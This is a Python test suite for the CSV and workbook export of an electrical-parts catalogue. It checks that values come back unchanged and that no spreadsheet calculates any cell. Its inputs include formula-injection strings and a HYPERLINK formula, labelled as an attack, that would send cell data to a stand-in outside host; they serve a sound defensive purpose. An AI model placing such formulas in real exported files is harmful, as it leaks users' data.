"""Whatever a valid catalogue holds comes back from a file as it was, and no spreadsheet calculates any of it."""

import csv
import json
import re
from collections.abc import Callable
from collections.abc import Sequence
from io import BytesIO
from io import StringIO
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element
from xml.etree.ElementTree import SubElement
from xml.etree.ElementTree import fromstring
from xml.etree.ElementTree import tostring
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from sccr.panel.kinds import kinds
from sccr.schema.catalogue import Catalogue
from sccr.schema.digest import digest_of
from sccr.schema.exchange import export_csv
from sccr.schema.exchange import export_xlsx
from sccr.schema.exchange import import_table
from sccr.schema.json_values import FORBIDDEN
from sccr.schema.ratings import FUSE_CLASSES
from sccr.schema.ratings import UTILIZATION_CATEGORIES

Part = dict[str, Any]
Parts = list[Part]
Export = Callable[[Sequence[Part]], bytes]

GRAIN = Path(__file__).parents[2] / "fixtures/catalogue/grain.json"
FILES = [(export_csv, "parts.csv"), (export_xlsx, "parts.xlsx")]
#: What some step on the way through a file would change, calculate or take for something else.
NASTY = (
    *(
        "=1+1",
        "+1",
        "-QA1",
        "@SUM(A1)",
        "'",
        "''",
        "＝1",
        "json:",
        'json:"a"',
        "none",
        "yes",
        ";",
        "; ",
        ";=1",
        ';"=1"',
    ),
    *(
        "_x0041_",
        "a_x0041_b",
        "x005F_",
        "_x005F_x0041_",
        "\ufffe",
        "\uffff",
        "\ufeff",
        "#N/A",
        "TRUE",
        "1E5",
        "00123",
        "3-4",
        '"',
    ),
    *(
        "[",
        "]",
        "[;",
        " behind ",
        " behind fuse J",
        " max ",
        "max 30 A",
        "@",
        ",",
        ":",
        "peak",
        "  ",
        "\xa0",
        "\\",
        "😀",
    ),
    *("\u2028", "fuse", "breaker", "part", " DC", "|", "\\u003b", "sep=;"),
)


def texts(longest: int) -> st.SearchStrategy[str]:
    """Texts that the schema takes, with a liking for what is hard."""
    pieces = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=6), st.just("a")), min_size=1, max_size=5)
    allowed = pieces.map("".join).map(lambda text: FORBIDDEN.sub("", text)[:longest])
    return allowed.filter(lambda text: bool(text) and not text.isspace())


def identifiers() -> st.SearchStrategy[str]:
    return texts(64).filter(lambda text: text.isprintable() and text == text.strip())


def members(required: dict[str, Any], optional: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(required, optional=optional)


CURRENTS = st.sampled_from(["65 kA", "65kA", "35000 A", "0.5 kA", "999 mA", "10.5 kA"])
AMPERES = st.sampled_from(["30 A", "0.5 A", "1.125 A", "1.2kA", "30000 mA"])
VOLTAGES = st.sampled_from(
    ["480 V", "480Y/277 V", "240/120 V", "120/240 V", "600V", "0.48 kV", "480/277 V", "230/400 V"]
)
SUPPLY = {"supply": st.sampled_from(["ac", "dc"])}
CLASSES = {"fuse_classes": st.lists(st.sampled_from(FUSE_CLASSES), min_size=1, max_size=4)}
CATEGORIES = {"utilization_categories": st.lists(st.sampled_from(UTILIZATION_CATEGORIES), min_size=1, max_size=3)}
FUSE = {"device": st.just("fuse"), "max_ampere_rating": AMPERES}
FUSES = st.one_of(members(FUSE | CLASSES, CATEGORIES), members(FUSE | CATEGORIES, CLASSES))
BREAKERS = st.one_of(
    members(
        {"device": st.just("circuit_breaker"), "parts": st.lists(identifiers(), min_size=1, max_size=3)},
        {"max_ampere_rating": AMPERES},
    ),
    members({"device": st.just("circuit_breaker"), "max_ampere_rating": AMPERES}, {}),
)
DEVICES = st.one_of(FUSES, BREAKERS)
AT = {"voltage": VOLTAGES, "current": CURRENTS}
POINTS = members(
    {"available": CURRENTS, "peak": CURRENTS, "voltage": VOLTAGES},
    {"i2t": st.sampled_from(["900 kA²s", "30000A2s", "1.5 kA²·s"]), **SUPPLY},
)
DURATIONS = st.sampled_from(["20 ms", "0.02 s", "1 s", "3s", "2.5 ms"])
CAPACITIES = st.sampled_from(["icu", "ics", "icn"])
SHORT_TIMES = members(
    {"current": st.sampled_from(["10 kA", "6kA"]), "duration": DURATIONS},
    {"peak": st.sampled_from(["17 kA", "20.5kA"])},
)
WINDINGS = st.sampled_from(["120 V", "24V", "0.12 kV"])
TRANSFORMERS = members(
    {},
    {
        "kva": st.sampled_from(["5 kVA", "500VA"]),
        "primary": VOLTAGES,
        "secondary": st.one_of(WINDINGS, st.lists(WINDINGS, min_size=1, max_size=3)),
        "impedance": st.sampled_from(["2.1 %", "5%"]),
        "isolated": st.booleans(),
    },
)


def lists_of(entries: st.SearchStrategy[Any]) -> st.SearchStrategy[list[Any]]:
    return st.lists(entries, max_size=3)


COMMON = {
    "description": texts(500),
    "poles": st.integers(1, 4),
    "ampere_rating": AMPERES,
    "voltage_rating": VOLTAGES,
    "horsepower": st.sampled_from(["5 hp", "3.7 kW", "0.5hp"]),
    "current_limiting": st.booleans(),
    "let_through": lists_of(POINTS),
    "self_protected": st.booleans(),
    "line_to_line": st.booleans(),
    "full_load_current": AMPERES,
    "phases": st.sampled_from([1, 3]),
    "standards": lists_of(texts(500)),
    "accessories": lists_of(texts(500)),
    "accessory_limit": st.integers(1, 100),
    "mounting": texts(500),
    "trip_curve": texts(500),
    "ambient_ratings": lists_of(
        members({"ambient": st.sampled_from(["30 °C", "-25°C", "104 °F"]), "ampere_rating": AMPERES}, {})
    ),
    "price": st.one_of(
        st.integers(0, 10**12),
        st.floats(0, 10**12),
        st.from_regex(r"(0|[1-9][0-9]{0,11})(\.[0-9]{1,6})?", fullmatch=True),
    ),
    "stock": st.integers(0, 2**53 - 1),
}
INTERRUPTS = {
    "interrupting_ratings": lists_of(members(AT, SUPPLY)),
    "series_ratings": lists_of(members({"line_side": DEVICES, **AT}, {"reference": texts(500), **SUPPLY})),
    "back_up_ratings": lists_of(members({"line_side": DEVICES, **AT}, {"reference": texts(500), **SUPPLY})),
}
WITHSTANDS = {
    "short_circuit_ratings": lists_of(members(AT, {"protected_by": DEVICES, **SUPPLY})),
    "conditional_ratings": lists_of(
        members({**AT, "protected_by": DEVICES}, {"coordination": st.sampled_from([1, 2]), **SUPPLY})
    ),
}


def part(kind: str) -> st.SearchStrategy[Part]:
    """Parts of a kind with all that may be marked on it."""
    own = kinds()[kind]
    marked = dict(COMMON)
    if own.overcurrent or own.supplementary or kind == "combination_motor_controller":
        marked |= INTERRUPTS
        capacities = st.just("fuse") if kind == "fuse" else CAPACITIES
        marked["breaking_capacities"] = lists_of(members({**AT, "kind": capacities}, SUPPLY))
    if own.overcurrent:
        marked["clearing_time"] = DURATIONS
    else:
        marked |= WITHSTANDS
    if kind != "fuse":
        marked["short_time_ratings"] = lists_of(SHORT_TIMES)
    else:
        marked["utilization_category"] = st.sampled_from(UTILIZATION_CATEGORIES)
        marked["time_delay"] = st.booleans()
    if kind == "fuse" or own.carries_fuse:
        marked["fuse_class"] = st.sampled_from(FUSE_CLASSES)
    if own.transformer:
        marked["transformer"] = TRANSFORMERS
        del marked["phases"]  # else it could contradict the slash voltage of a secondary
    return members({"part": identifiers(), "kind": st.just(kind)}, marked)


CATALOGUES = st.lists(
    st.sampled_from(sorted(kinds())).flatmap(part), max_size=6, unique_by=lambda each: str(each["part"])
)


def catalogue(parts: Sequence[Part]) -> Catalogue:
    return Catalogue.from_document({"format": "catalogue/1", "parts": list(parts)})


def comes_back(export: Export, name: str, parts: Parts) -> None:
    result = import_table(export(parts), name)

    assert result.problems == ()
    assert list(result.parts) == parts
    assert [digest_of(each) for each in result.parts] == [digest_of(each) for each in parts]
    assert catalogue(result.parts).parts == catalogue(parts).parts


@given(CATALOGUES)
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_catalogue_comes_back_from_csv(parts: Parts) -> None:
    comes_back(export_csv, "parts.csv", parts)


@given(CATALOGUES)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_catalogue_comes_back_from_a_workbook(parts: Parts) -> None:
    comes_back(export_xlsx, "parts.xlsx", parts)


@given(CATALOGUES)
@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_catalogue_comes_back_from_a_workbook_that_was_saved_again(parts: Parts) -> None:
    result = import_table(saved_again(export_xlsx(parts)), "parts.xlsx")

    assert (result.problems, list(result.parts)) == ((), parts)


TYPES = "[Content_Types].xml"
SHARED_STRINGS = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" />'
)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def saved_again(body: bytes) -> bytes:
    """The workbook as a spreadsheet saves it: its texts in a table of their own, in which _x0041_ is the letter A.

    (ISO/IEC 29500-1, 22.9.2.19: a text that has this form itself is written with its underscore as _x005F_.)
    """
    stream = BytesIO()
    shared = Element(f"{MAIN}sst")
    with ZipFile(BytesIO(body)) as old, ZipFile(stream, "w") as new:
        sheet = fromstring(old.read("xl/worksheets/sheet1.xml"))
        for cell in sheet.iter(f"{MAIN}c"):
            if cell.get("t") == "inlineStr":
                meant = re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), cell[0][0].text or "")
                SubElement(SubElement(shared, f"{MAIN}si"), f"{MAIN}t").text = re.sub(
                    "_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", meant
                )
                cell.remove(cell[0])
                cell.set("t", "s")
                SubElement(cell, f"{MAIN}v").text = str(len(shared) - 1)
        kinds_of_entries = old.read(TYPES).replace(b"</Types>", SHARED_STRINGS + b"</Types>")
        new.writestr("xl/sharedStrings.xml", tostring(shared))
        changed = {"xl/worksheets/sheet1.xml": tostring(sheet), TYPES: kinds_of_entries}
        for name in old.namelist():
            new.writestr(name, changed.get(name) or old.read(name))
    return stream.getvalue()


@pytest.mark.parametrize(("export", "name"), FILES)
def test_the_demo_catalogue_comes_back(export: Export, name: str) -> None:
    comes_back(export, name, json.loads(GRAIN.read_text("utf-8"))["parts"])


def hard_parts() -> Parts:
    parts: Parts = [
        {"part": f"P-{number}", "kind": "fuse", "description": text, "accessories": [text], "standards": ["a", text]}
        for number, text in enumerate(NASTY)
        if not text.isspace()
    ]
    return parts + [{"part": text, "kind": "fuse"} for text in NASTY if text.isprintable() and text == text.strip()]


@pytest.mark.parametrize(("export", "name"), FILES)
def test_what_is_hard_comes_back_one_by_one(export: Export, name: str) -> None:
    comes_back(export, name, hard_parts())


def test_what_is_hard_comes_back_one_by_one_from_a_workbook_that_was_saved_again() -> None:
    comes_back(lambda parts: saved_again(export_xlsx(parts)), "parts.xlsx", hard_parts())


@pytest.mark.parametrize(
    "price", [310, 310.0, 12.25, "12.50", "310", 0, 0.1 + 0.2, 5e-324, 10**12, 999999999999.1234, "0.000001"]
)
@pytest.mark.parametrize(("export", "name"), FILES)
def test_a_price_stays_the_number_or_the_text_that_it_was(export: Export, name: str, price: Any) -> None:
    comes_back(export, name, [{"part": "OAT-1", "kind": "fuse", "price": price}])
    (found,) = import_table(export([{"part": "OAT-1", "kind": "fuse", "price": price}]), name).parts
    assert isinstance(found["price"], str) == isinstance(price, str)


@pytest.mark.parametrize(("export", "name"), FILES)
@pytest.mark.parametrize("filler", ["a", '"', "😀", "x0041_", ";=", "\\"])
def test_lists_longer_than_a_cell_of_a_spreadsheet_come_back(export: Export, name: str, filler: str) -> None:
    longest = (filler * 64)[:60]
    behind = {"device": "circuit_breaker", "parts": [f"{number:04}{longest}" for number in range(200)]}
    rating = {"line_side": behind, "voltage": "480 V", "current": "65 kA", "reference": (filler * 500)[:500]}
    parts = [
        {"part": "OAT-1", "kind": "circuit_breaker", "series_ratings": [rating] * 3, "accessories": [longest * 8] * 50}
    ]
    comes_back(export, name, parts)


def test_no_cell_of_a_workbook_is_longer_than_a_spreadsheet_takes() -> None:
    behind = {"device": "circuit_breaker", "parts": ["😀" * 60 + f"{number:04}" for number in range(200)]}
    rating = {"protected_by": behind, "voltage": "480 V", "current": "65 kA"}
    body = export_xlsx([{"part": "OAT-1", "kind": "contactor", "short_circuit_ratings": [rating] * 5}])

    header, row = openpyxl.load_workbook(BytesIO(body))["parts"].iter_rows(values_only=True)
    assert header[2:] == ("short_circuit_ratings", *(f"short_circuit_ratings {number}" for number in range(2, 6)))
    assert all(len(str(cell).encode("utf-16-le")) // 2 <= 32_767 for cell in row)


@given(CATALOGUES)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_cell_is_calculated_whichever_way_a_spreadsheet_parts_the_rows(parts: Parts) -> None:
    text = export_csv(parts).decode("utf-8-sig")

    for delimiter in ",;\t":
        for row in csv.reader(StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)]


def test_a_formula_in_a_text_is_kept_as_text_and_guarded() -> None:
    attack = '=HYPERLINK("http://example.com/?"&A1)'
    text = export_csv([{"part": "OAT-1", "kind": "fuse", "description": attack}]).decode("utf-8-sig")

    assert list(csv.reader(StringIO(text)))[1] == ["OAT-1", "fuse", "'" + attack]


@pytest.mark.parametrize("text", ["a;=1+1", 'a;"=1+1"', "a; @SUM(A1)", "a;\uff1d1"])
def test_a_formula_behind_a_semicolon_is_not_parted_from_its_text(text: str) -> None:
    parts = [{"part": "OAT-1", "kind": "fuse", "description": text, "accessories": [text, "-1"]}]
    row = export_csv(parts).decode("utf-8-sig").splitlines()[1]

    assert not re.search(r';[\s"\\]*[=+\-@\uff1d]', row)
    comes_back(export_csv, "parts.csv", parts)


def test_csv_is_as_rfc_4180_and_spreadsheets_want_it() -> None:
    body = export_csv([{"part": 'OAT "1"', "kind": "fuse", "description": "a, b"}])
    assert body == b'\xef\xbb\xbfpart,kind,description\r\n"OAT ""1""",fuse,"a, b"\r\n'


def test_a_workbook_takes_what_is_typed_as_text_and_holds_numbers_as_numbers() -> None:
    body = export_xlsx([{"part": "00123", "kind": "fuse", "stock": 7, "price": 12.25, "poles": 1}])
    sheet = openpyxl.load_workbook(BytesIO(body))["parts"]
    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}

    assert {name: cell.value for name, cell in cells.items()} == {
        "part": "00123",
        "kind": "fuse",
        "poles": 1,
        "price_number": 12.25,
        "stock": 7,
    }
    assert (cells["part"].number_format, cells["stock"].number_format) == ("@", "General")
    assert sheet.column_dimensions["A"].number_format == "@"


@pytest.mark.parametrize(("export", "name"), FILES)
def test_an_empty_catalogue_is_a_file_to_fill_in(export: Export, name: str) -> None:
    body = export([])
    assert (import_table(body, name).parts, import_table(body, name).problems) == ((), ())
    if name == "parts.csv":
        header = body.decode("utf-8-sig").strip().split(",")
        assert header[:3] == ["part", "kind", "description"]
        assert {"interrupting_ratings", "transformer.kva", "price", "stock"} <= set(header)
        assert "price_number" not in header


@pytest.mark.parametrize("export", [export_csv, export_xlsx])
def test_what_has_no_column_is_not_left_out_in_silence(export: Export) -> None:
    with pytest.raises(ValueError, match="fed_from"):
        export([{"part": "OAT-1", "kind": "fuse", "fed_from": "S1"}])
